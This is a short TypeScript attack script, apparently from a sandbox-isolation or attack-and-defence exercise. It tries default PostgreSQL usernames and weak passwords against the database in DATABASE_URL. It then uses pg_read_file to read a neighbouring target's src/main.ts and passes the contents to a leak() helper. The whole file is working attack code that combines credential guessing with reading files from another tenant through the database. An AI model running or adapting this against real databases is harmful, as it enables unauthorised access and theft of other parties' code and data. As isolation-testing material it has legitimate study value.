import pg from 'pg';
import { targets } from './targets.ts';
import { attemptAsync, leak } from './tools.ts';

const query = async (text: string, change: (url: URL) => void = () => {}) => {
  const url = new URL(process.env.DATABASE_URL ?? '');
  change(url);
  const client = new pg.Client({ connectionString: url.href, connectionTimeoutMillis: 1000 });
  client.on('error', () => {});
  try {
    await client.connect();
    const { rows } = await client.query(text);
    return JSON.stringify(rows);
  } finally {
    await client.end().catch(() => {});
  }
};
for (const user of ['postgres', 'root', 'checker', 'nobody'])
  for (const password of ['', 'postgres', user])
    await attemptAsync(async () => {
      leak(
        await query(`SELECT pg_read_file('${targets.neighbour}/src/main.ts')`, (url) => {
          url.username = user;
          url.password = password;
          url.pathname = '/postgres';
        }),
      );
    }, 1500);
